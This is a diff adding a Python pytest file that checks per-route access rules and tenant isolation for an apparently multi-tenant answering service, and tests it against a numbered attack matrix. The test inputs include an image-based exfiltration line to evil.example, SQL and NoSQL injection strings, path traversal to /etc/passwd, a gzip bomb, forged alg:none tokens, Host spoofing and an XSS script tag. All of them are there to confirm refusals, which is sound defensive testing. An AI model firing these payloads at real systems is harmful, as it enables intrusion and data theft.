@@ -1,0 +1,449 @@
+"""Who gets through to what: one rule for every route of the app, written here once more, and the attacks on them.
+
+A route that is new in the app and not in `RULES` fails the first test: say who may call it, and what of it is whose.
+Numbers such as C11 are those of the attack matrix that the design began with.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import gzip
+import json
+import logging
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import httpx2
+import pytest
+from fastapi import FastAPI
+from fastapi.routing import iter_route_contexts
+
+from foundation.clock import SystemClock
+from serving.app import create_app
+from serving.identity import PAGE_PATHS, PUBLIC_PATHS, Access, KeyStore, anyone, signed_in
+from serving.page.mounting import policy
+from tests.doubles.issuer import AUDIENCE, ISSUER, Issuer
+from tests.doubles.serving import TEXT, World, world
+
+ROOT = Path(__file__).parents[2]
+ROLES = ("reader", "agent", "approver", "operator")
+EVERYONE = frozenset(ROLES)
+WRITERS = frozenset({"agent", "operator"})
+DECIDERS = frozenset({"approver"})
+OPERATORS = frozenset({"operator"})
+PUBLIC: frozenset[str] = frozenset({"public"})
+"""No credential is asked for."""
+PAGE: frozenset[str] = frozenset({"page"})
+"""A signed-in browser only: whatever is in Authorization, it is 401."""
+
+ASK = {"question": "When does it ship?"}
+CHAT = {"model": "sixply", "messages": [{"role": "user", "content": "When does it ship?"}]}
+FILE = {"file": ("double.md", TEXT.encode())}
+MCP = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
+
+
+@dataclass(frozen=True)
+class Rule:
+    """Who may call, a request that fits, and whose what it names is."""
+
+    who: frozenset[str] = EVERYONE
+    json: Any = None
+    files: Any = None
+    query: str = ""
+    paged: bool = False
+    of_tenant: bool = False
+    """It names something of the tenant north; in another tenant there is no such thing."""
+    of_person: bool = False
+    """It names something of reader@north; for a colleague there is no such thing either."""
+
+
+RULES = {
+    "POST /v1/answers": Rule(json=ASK),
+    "POST /v1/search": Rule(json={"query": "ships"}),
+    "POST /v1/answers/{answer_id}/feedback": Rule(json={"verdict": "accepted"}, of_tenant=True),
+    "GET /v1/feedback": Rule(paged=True),
+    "GET /v1/conversations": Rule(paged=True),
+    "GET /v1/conversations/{thread_id}": Rule(paged=True, of_tenant=True, of_person=True),
+    "DELETE /v1/conversations/{thread_id}": Rule(of_tenant=True, of_person=True),
+    "GET /v1/facts": Rule(paged=True),
+    "POST /v1/facts": Rule(json={"text": "Our printers are all QL-20W."}),
+    "PUT /v1/facts/{fact_id}": Rule(json={"text": "They are QL-40."}, of_tenant=True, of_person=True),
+    "DELETE /v1/facts/{fact_id}": Rule(of_tenant=True, of_person=True),
+    "GET /v1/usage": Rule(),
+    "POST /v1/chat/completions": Rule(json=CHAT),
+    "GET /v1/models": Rule(),
+    "POST /v1/documents": Rule(WRITERS, files=FILE),
+    "POST /v1/documents/retry": Rule(WRITERS),
+    "GET /v1/documents": Rule(paged=True),
+    "GET /v1/documents/{document_id}": Rule(of_tenant=True),
+    "DELETE /v1/documents": Rule(WRITERS, query="uri=double.md", of_tenant=True),
+    "POST /v1/jobs/ingest": Rule(WRITERS, files={"files": FILE["file"]}),
+    "POST /v1/jobs/answers": Rule(json={"questions": [ASK]}),
+    "GET /v1/jobs": Rule(paged=True),
+    "GET /v1/jobs/{job_id}": Rule(paged=True, of_tenant=True, of_person=True),
+    "POST /v1/jobs/{job_id}/cancel": Rule(of_tenant=True, of_person=True),
+    "GET /v1/approvals": Rule(DECIDERS, paged=True),
+    "POST /v1/approvals/{approval_id}": Rule(DECIDERS, json={"approve": True}, of_tenant=True),
+    "GET /v1/stops": Rule(OPERATORS),
+    "PUT /v1/stops/{what}": Rule(OPERATORS, json={"why": "We are looking."}),
+    "DELETE /v1/stops/{what}": Rule(OPERATORS),
+    "GET /metrics": Rule(OPERATORS),
+    "GET /openapi.json": Rule(OPERATORS),
+    "GET /docs": Rule(OPERATORS),
+    "GET /docs/{name}": Rule(OPERATORS),
+    "POST /mcp": Rule(json=MCP),
+    "GET /health/live": Rule(PUBLIC),
+    "GET /health/ready": Rule(PUBLIC),
+    "GET /": Rule(PUBLIC),
+    "POST /sign-in": Rule(PUBLIC),
+    "POST /sign-out": Rule(PUBLIC),
+    "GET /_nicegui/{rest:path}": Rule(PAGE),
+    "POST /_nicegui/{rest:path}": Rule(PAGE),
+    "GET /_nicegui_ws/{rest:path}": Rule(PAGE),
+    "POST /_nicegui_ws/{rest:path}": Rule(PAGE),
+}
+KEYED = {name: rule for name, rule in RULES.items() if not rule.who & (PUBLIC | PAGE)}
+OURS = {
+    "answer_id": "a-1", "thread_id": "t-1", "fact_id": "fact-1", "document_id": "doc-1", "job_id": "job-1",
+    "approval_id": "ap-1", "what": "effects", "name": "favicon.png", "rest:path": "x",
+}  # fmt: skip
+"""What is there, all of it in the tenant north."""
+IDS = [known for kind, known in OURS.items() if kind.endswith("_id")]
+ABSENT = dict.fromkeys(OURS, "none-of-these") | {"what": "effects", "double.md": "none-of-these"}
+
+
+def in_app(app: FastAPI) -> Iterator[tuple[str, Any]]:
+    for context in iter_route_contexts(app.routes):
+        for method in sorted(context.methods or {"GET"}):
+            yield f"{method} {context.path}", context
+
+
+def dependants(dependant: Any) -> Iterator[Any]:
+    yield dependant
+    for inner in dependant.dependencies:
+        yield from dependants(inner)
+
+
+class Caller:
+    """Calls any route by its name in `RULES`."""
+
+    def __init__(self, api: httpx2.AsyncClient) -> None:
+        self.api = api
+
+    async def call(
+        self, name: str, key: str = "", *, absent: bool = False, query: str = "", **changes: Any
+    ) -> httpx2.Response:
+        method, path = name.split(" ")
+        rule, names = RULES[name], ABSENT if absent else OURS
+        for parameter, value in names.items():
+            path = path.replace(f"{{{parameter}}}", value)
+        own = rule.query.replace("double.md", "none-of-these") if absent else rule.query
+        given = {"json": rule.json, "files": rule.files, "headers": {"Authorization": f"Bearer {key}"} if key else {}}
+        given |= changes
+        if name == "POST /mcp":
+            given["headers"] = {"Accept": "application/json, text/event-stream"} | given["headers"]
+        return await self.api.request(method, f"{path}?{'&'.join(filter(None, (own, query)))}", **given)
+
+
+def key_of(given: World, *roles: str, tenant: str) -> str:
+    keys = KeyStore.of(given.system.settings, SystemClock())
+    return keys.create(subject=f"other@{tenant}", tenant=tenant, roles=roles)
+
+
+async def opened(given: World) -> AsyncIterator[Caller]:
+    app, ready, over = create_app(given.system), asyncio.Event(), asyncio.Event()
+
+    async def alive() -> None:
+        """In a task of its own: a fixture is entered in one and left in another, which task groups do not allow."""
+        async with app.router.lifespan_context(app):
+            ready.set()
+            await over.wait()
+
+    life = asyncio.create_task(alive())
+    await ready.wait()
+    async with httpx2.AsyncClient(transport=httpx2.ASGITransport(app), base_url="http://127.0.0.1") as api:
+        yield Caller(api)
+    over.set()
+    await life
+
+
+@pytest.fixture
+def given(tmp_path: Path) -> World:
+    return world(tmp_path)
+
+
+@pytest.fixture
+async def caller(given: World) -> AsyncIterator[Caller]:
+    """The app, with one of everything in the tenant north."""
+    async for caller in opened(given):
+        for name, key in (
+            ("POST /v1/documents", given.agent),
+            ("POST /v1/facts", given.reader),
+            ("POST /v1/jobs/answers", given.reader),
+        ):
+            assert (await caller.call(name, key)).status_code in {201, 202}
+        yield caller
+
+
+# -- every route -------------------------------------------------------------------------------------------------------
+
+
+def test_every_route_of_the_app_has_its_rule_here_and_declares_one_there(given: World) -> None:
+    app = create_app(given.system)
+    found = dict(in_app(app))
+    assert found.keys() == RULES.keys(), "give the new route a line in RULES"
+    for name, route in found.items():
+        path, rule = name.split(" ")[1], RULES[name]
+        parts = list(dependants(route.dependant))
+        rules = [one.call for one in parts if isinstance(one.call, Access) or one.call in (anyone, signed_in)]
+        assert len(rules) == 1, f"{name} declares {len(rules)} rules; give it one of serving/identity.py"
+        assert (rules[0] is anyone) == (path in PUBLIC_PATHS) == (rule.who == PUBLIC), name
+        assert (rules[0] is signed_in) == path.startswith(PAGE_PATHS) == (rule.who == PAGE), name
+        paged = {"limit", "cursor"} <= {parameter.name for one in parts for parameter in one.query_params}
+        assert paged == rule.paged, name
+
+
+async def test_without_a_credential_a_route_is_401(caller: Caller) -> None:
+    for name, rule in RULES.items():
+        reply = await caller.call(name)
+        if rule.who == PUBLIC:
+            assert reply.status_code in {200, 303, 422}, name
+        else:
+            assert reply.status_code == 401, name
+            assert "Bearer" in reply.headers["www-authenticate"]
+            assert "unauthenticated" in reply.text
+
+
+async def test_a_role_without_the_permission_is_403_and_one_with_it_is_let_in(given: World, caller: Caller) -> None:
+    for name, rule in KEYED.items():
+        for role in ROLES:
+            status = (await caller.call(name, getattr(given, role))).status_code
+            assert (status == 403) == (role not in rule.who), f"{name} as {role}: {status}"
+            assert status != 401
+
+
+async def test_what_is_another_tenants_or_persons_is_404_as_if_it_did_not_exist(given: World, caller: Caller) -> None:
+    stranger = key_of(given, *ROLES, tenant="south")
+    colleague = key_of(given, *ROLES, tenant="north")
+    told: dict[str, str] = {}
+    for name, rule in KEYED.items():
+        others = [stranger] * rule.of_tenant + [colleague] * rule.of_person
+        for other in others:
+            hidden = await caller.call(name, other)
+            absent = await caller.call(name, other, absent=True)
+            assert (hidden.status_code, absent.status_code) == (404, 404), f"{name}: {hidden.text}"
+            same = hidden.json()["detail"]
+            for ours in ("double.md", *sorted(IDS, key=len, reverse=True)):  # "t-1" is in "fact-1", too
+                same = same.replace(ours, "none-of-these")
+            assert same == absent.json()["detail"], name
+            told[name] = same
+    assert told.keys() == {name for name, rule in KEYED.items() if "_id}" in name or name == "DELETE /v1/documents"}
+
+
+async def test_a_body_over_the_limit_is_413_on_every_route(tmp_path: Path) -> None:
+    given = world(tmp_path, max_body_bytes=1_000)
+    async for caller in opened(given):
+        for name in RULES:
+            reply = await caller.call(name, given.all_roles, json=None, files=None, content=b'"' + b"x" * 2_000 + b'"')
+            assert reply.status_code == 413, name
+            assert "too_large" in reply.text
+    assert not given.system.agent.asked
+
+
+async def test_a_page_over_the_limit_and_a_forged_cursor_are_422_on_every_list(given: World, caller: Caller) -> None:
+    for name, rule in KEYED.items():
+        for query in ("limit=1001", "limit=0", "cursor=%00", "cursor=Li4vLi4%3D%3D%3D"):
+            if rule.paged:
+                assert (await caller.call(name, given.all_roles, query=query)).status_code == 422, name
+    assert (await caller.call("POST /v1/search", given.reader, json={"query": "a", "limit": 101})).status_code == 422
+
+
+# -- the attacks -------------------------------------------------------------------------------------------------------
+
+
+def test_c6_an_answer_on_the_page_loads_and_sends_nothing_elsewhere() -> None:
+    """An image in an answer would carry what the documents say to whoever owns its address. The browser is told not to."""
+    told = dict(
+        part.strip().partition(" ")[::2] for part in policy("<p>![x](https://evil.example/?q=secret)").split(";")
+    )
+    assert told["default-src"] == "'none'"
+    assert {told[name] for name in ("connect-src", "form-action")} == {"'self'"}
+    assert told["img-src"] == "'self' data:"
+    assert not [source for sources in told.values() for source in sources.split() if source in {"*", "https:", "http:"}]
+
+
+async def test_c11_nothing_of_a_tenant_is_in_any_reply_to_another(given: World, caller: Caller) -> None:
+    canary = "CANARY-7d1f the north's secret"
+    files = {"file": ("canary.md", canary.encode())}
+    assert (await caller.call("POST /v1/documents", given.agent, files=files)).status_code == 201
+    assert canary in (await caller.call("POST /v1/search", given.reader)).text
+    stranger = key_of(given, "reader", "agent", "approver", tenant="south")
+    for name in KEYED:
+        reply = await caller.call(name, stranger)
+        if name not in {"POST /v1/answers", "POST /v1/chat/completions"}:  # the double's answer is always the same
+            for ours in (canary, "canary.md", "@north", "Tuesdays"):
+                assert ours not in reply.text, f"{name} shows {ours}"
+
+
+async def test_c12_a_tenant_replaces_and_deletes_only_its_own(given: World, caller: Caller) -> None:
+    stranger = key_of(given, "agent", tenant="south")
+    theirs = {"file": ("double.md", b"The south's words.")}
+    assert (await caller.call("POST /v1/documents", stranger, files=theirs)).status_code == 201
+    assert (await caller.call("GET /v1/documents/{document_id}", given.reader)).json()["text"] == TEXT
+    assert (await caller.call("DELETE /v1/documents", stranger)).status_code == 204
+    assert (await caller.call("DELETE /v1/documents", stranger)).status_code == 404
+    assert (await caller.call("GET /v1/documents/{document_id}", given.reader)).json()["text"] == TEXT
+
+
+async def test_c13_a_filter_that_carries_operators_is_422(given: World, caller: Caller) -> None:
+    for where in (
+        {"$or": [{"tenant": "north"}]},
+        {"key": {"$ne": ""}, "in": ["a"]},
+        {"key": "tenant", "in": [{"$gt": ""}]},
+        {"key": "a", "in": [["b"]]},
+        {"key": "a\0b", "in": ["c"]},
+        {"key": "x" * 501, "in": ["c"]},
+        {"all": [{"all": []}]},
+        {"where": "1=1"},
+    ):
+        reply = await caller.call("POST /v1/search", given.stranger, json={"query": "ships", "where": where})
+        assert (reply.status_code, reply.json()["code"]) == (422, "invalid_request"), where
+
+
+async def test_c13_a_filter_key_is_only_ever_a_name(given: World, caller: Caller) -> None:
+    for key in ("x' OR '1'='1", 'tenant") OR 1=1 --', "$where", "__class__", "tenant", "uri); DROP"):
+        for value in ("north", "' OR 1=1 --"):
+            where = {"any": [{"key": key, "in": [value]}, {"key": key, "from": ""}]}
+            reply = await caller.call("POST /v1/search", given.stranger, json={"query": "ships", "where": where})
+            assert reply.status_code in {200, 422}, reply.text
+            assert not reply.json().get("hits")
+
+
+async def test_c14_an_id_that_is_no_id_is_refused_before_anything_is_looked_up(given: World, caller: Caller) -> None:
+    for name in [name for name in KEYED if "_id}" in name]:
+        method, path = name.split(" ")
+        start, _, end = path.replace("}", "{").split("{")
+        for forged in ("..%2f..%2fetc%2fpasswd", "%00", "a%0d%0ab", "x" * 129, "*", "'%20OR%201=1--", "%f0%9f%99%82"):
+            reply = await caller.api.request(
+                method, f"{start}{forged}{end}", json=RULES[name].json, headers=bearer(given.all_roles)
+            )
+            assert reply.status_code in {404, 405, 422}, f"{name} {forged}: {reply.status_code}"
+
+
+def test_c17_nothing_that_serves_requests_fetches_addresses() -> None:
+    """The operator's command may; a caller cannot make this machine call anything."""
+    fetching = [path for path in (ROOT / "serving").rglob("*.py") if "retrieval.fetching" in path.read_text("utf-8")]
+    assert [path.name for path in fetching] == ["commands.py"]
+
+
+async def test_c18_a_file_name_never_brings_a_folder_along(given: World, caller: Caller) -> None:
+    for name in ("../../etc/passwd.md", "..\\..\\passwd.md", "/etc/passwd.md", "C:\\passwd.md"):
+        added = await caller.call("POST /v1/documents", given.agent, files={"file": (name, TEXT.encode())})
+        assert added.json()["uri"] == "passwd.md"
+
+
+async def test_c18_no_file_but_those_of_the_documentation_is_served(given: World, caller: Caller) -> None:
+    for name in ("..%2f..%2fserver.py", "..%5c..%5cserver.py", "%2fetc%2fpasswd", "core.py", "%2e%2e"):
+        reply = await caller.api.get(f"/docs/{name}", headers=bearer(given.operator))
+        assert reply.status_code == 404, name
+
+
+async def test_c19_a_compressed_body_is_never_unpacked(given: World, caller: Caller) -> None:
+    bomb = gzip.compress(json.dumps({"question": "x" * 8_000_000}).encode())
+    headers = bearer(given.reader) | {"Content-Encoding": "gzip", "Content-Type": "application/json"}
+    reply = await caller.api.post("/v1/answers", content=bomb, headers=headers)
+    assert (reply.status_code, reply.json()["code"]) == (400, "request")
+
+
+async def test_c24_a_callers_secrets_and_words_are_in_no_log_and_make_no_line_of_their_own(
+    given: World, caller: Caller, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    words = "explode CANARY-9c4e alice@example.com"
+    for headers in (bearer(given.reader), bearer("sixply_CANARY-9c4e"), bearer("CANARY-9c4e.CANARY-9c4e.CANARY-9c4e")):
+        for extra in ({}, {"X-Request-Id": "a\tERROR CANARY-9c4e", "Idempotency-Key": "CANARY-9c4e"}):
+            await caller.api.post("/v1/answers", json={"question": words}, headers=headers | extra)
+            await caller.api.post("/v1/search", json={"query": words}, headers=headers | extra)
+    assert [record for record in caplog.records if record.levelname == "ERROR"]
+    kept = caplog.text + (await caller.call("GET /metrics", given.operator)).text
+    for secret in (given.reader, "CANARY-9c4e", "alice@example.com"):
+        assert secret not in kept
+    assert not [record for record in caplog.records if "\n" in record.getMessage() or "\r" in record.getMessage()]
+
+
+async def test_c25_no_forged_credential_opens_any_route(tmp_path: Path) -> None:
+    issuer = Issuer(tmp_path / "jwks.json")
+    issuer.publish("ec")
+    trusted = {"jwks_file": "jwks.json", "issuer": ISSUER, "audience": AUDIENCE}
+    given = world(tmp_path, serving={"jwt": trusted})
+    stored = KeyStore.of(given.system.settings, SystemClock()).list()[0].sha256
+    head, claims, _ = issuer.token().split(".")
+    nothing = base64.urlsafe_b64encode(b'{"alg":"none","kid":"ec"}').rstrip(b"=").decode()
+    forged = [
+        "Bearer", "Bearer sixply_", f"Bearer sixply_{stored}", f"Bearer {stored}", f"Bearer {given.reader}x",
+        f"Bearer {given.reader[:-1]}", f"Digest {given.reader}", given.reader, f"Token {given.reader}",
+        f"Bearer {head}.{claims}.", f"Bearer {nothing}.{claims}.", f"Bearer {issuer.token(exp=1)}",
+        f"Bearer {issuer.token(aud='another')}", f"Bearer {issuer.token(tenant='*')}",
+    ]  # fmt: skip
+    async for caller in opened(given):
+        good = await caller.call("GET /v1/models", issuer.token())
+        assert good.status_code == 200
+        for name in KEYED:
+            for authorization in forged:
+                reply = await caller.call(name, headers={"Authorization": authorization})
+                assert reply.status_code == 401, f"{name} takes {authorization}"
+            cookie = {"Cookie": f"sixply_session={given.reader}; Authorization=Bearer {given.reader}"}
+            assert (await caller.call(name, headers=cookie)).status_code == 401, name
+            assert (await caller.call(name, query=f"key={given.reader}&access_token={given.reader}")).status_code == 401
+
+
+async def test_c25_where_sessions_cannot_be_looked_up_the_page_is_503(given: World, caller: Caller) -> None:
+    given.system.cache.close()
+    for path in ("/_nicegui/x", "/"):
+        reply = await caller.api.get(path, headers={"Cookie": "sixply_session=any"})
+        assert (reply.status_code, reply.json()["code"]) == (503, "store_unavailable"), path
+
+
+async def test_c26_another_host_is_refused_on_every_route(given: World, caller: Caller) -> None:
+    for name in RULES:
+        for host in ("evil.example", "127.0.0.1.evil.example", "127.0.0.1@evil.example", ""):
+            reply = await caller.call(name, headers=bearer(given.all_roles) | {"Host": host})
+            assert reply.status_code == 400, name
+
+
+async def test_c26_forms_and_ranges_are_bounded(given: World, caller: Caller) -> None:
+    add = "POST /v1/documents"
+    many_files = [("file", ("a.md", b"x"))] * 1_100
+    many_fields = {f"field{number}": "v" for number in range(1_100)}
+    assert (await caller.call(add, given.agent, files=many_files)).status_code == 400
+    assert (await caller.call(add, given.agent, data=many_fields)).status_code == 400
+    assert (await caller.call(add, given.agent, data={"title": "x" * 2_000_000})).status_code == 400
+    form = bearer(given.agent) | {"Content-Type": "multipart/form-data"}
+    assert (await caller.call(add, headers=form, files=None, content=b"--x\r\n")).status_code == 400
+    whole = await caller.call("GET /docs/{name}", given.operator)
+    overlapping = bearer(given.operator) | {"Range": "bytes=" + ",".join(["0-"] * 10_000)}
+    ranged = await caller.call("GET /docs/{name}", headers=overlapping)
+    assert ranged.status_code in {200, 206, 416}
+    assert len(ranged.content) <= 2 * len(whole.content)
+
+
+async def test_c28_no_reply_of_the_api_is_ever_read_as_a_page(given: World, caller: Caller) -> None:
+    markup = "<script>alert(1)</script>"
+    for name in [name for name in KEYED if name.split(" ")[1].startswith(("/v1/", "/mcp"))]:
+        for accept in ("text/html", "text/event-stream, application/json"):
+            reply = await caller.call(
+                name, headers=bearer(given.all_roles) | {"Accept": accept, "X-Request-Id": markup}, query=f"x={markup}"
+            )
+            assert "html" not in reply.headers.get("content-type", ""), name
+            assert reply.headers["x-content-type-options"] == "nosniff"
+            assert markup not in reply.headers["x-request-id"]
+    echoed = await caller.call("POST /v1/answers", given.reader, json={"question": markup})
+    assert echoed.headers["content-type"] == "application/json"
+    assert echoed.json()["question"] == markup
+
+
+def bearer(key: str) -> dict[str, str]:
+    return {"Authorization": f"Bearer {key}"}
